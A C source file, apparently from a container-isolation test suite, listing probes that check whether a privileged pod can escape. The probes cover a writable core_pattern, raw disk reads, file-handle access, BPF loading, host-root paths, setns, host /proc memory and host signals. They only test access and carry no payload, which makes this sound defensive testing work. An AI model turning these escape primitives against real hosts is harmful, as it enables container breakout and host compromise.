/* Attacks that only privileged pods and pods with the host's processes can try. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/pidfd.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Nothing is written: to be able to is enough. */
static void core_pattern(void) {
    if (open("/proc/sys/kernel/core_pattern", O_WRONLY | O_CLOEXEC) < 0)
        held();
    won();
}

static const char *told(const char *variable) {
    const char *value = getenv(variable);
    if (!value)
        broken(variable);
    return value;
}

static void disk_read(void) { open_goal(told("KF_DISK")); }

static void by_handle(void) {
    union {
        struct file_handle handle;
        char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    } file = {.handle.handle_bytes = MAX_HANDLE_SZ};
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, VAULT, &file.handle, &mount_id, 0) || chdir("/vault"))
        not_here("the volume has no file handles");
    int fd = open_by_handle_at(AT_FDCWD, &file.handle, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        held();
    read_goal(fd);
}

/* Not stopped: the kernel's other interfaces. A program that does nothing is loaded and dropped. */
static void kernel_bpf(void) {
    struct bpf_insn instructions[] = {
        {.code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = BPF_REG_0, .imm = 0},
        {.code = BPF_JMP | BPF_EXIT},
    };
    union bpf_attr attributes = {
        .prog_type = BPF_PROG_TYPE_SOCKET_FILTER,
        .insns = (unsigned long)instructions,
        .insn_cnt = 2,
        .license = (unsigned long)"",
    };
    if (syscall(SYS_bpf, BPF_PROG_LOAD, &attributes, sizeof attributes) < 0)
        held();
    won();
}

static pid_t host_process(void) { return atoi(told("KF_HOST_PID")); }

static void host_root(void) {
    char path[4096];
    snprintf(path, sizeof path, "/proc/%d/root%s", (int)host_process(), told("KF_HOST_FLAG"));
    open_goal(path);
}

static void host_setns(void) {
    int process = pidfd_open(host_process(), 0);
    if (process < 0 || setns(process, CLONE_NEWNS))
        held();
    open_goal(told("KF_HOST_FLAG"));
}

static void host_memory(void) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", (int)host_process());
    if (open(path, O_RDWR | O_CLOEXEC) < 0)
        held();
    won();
}

static void host_signal(void) {
    if (kill(host_process(), 0))
        held();
    won();
}

const struct attack privileged_attacks[] = {
    {"core-pattern", core_pattern},
    {"disk-read", disk_read},
    {"by-handle", by_handle},
    {"kernel-bpf", kernel_bpf},
    {"host-root", host_root},
    {"host-setns", host_setns},
    {"host-memory", host_memory},
    {"host-signal", host_signal},
    {NULL, NULL},
};
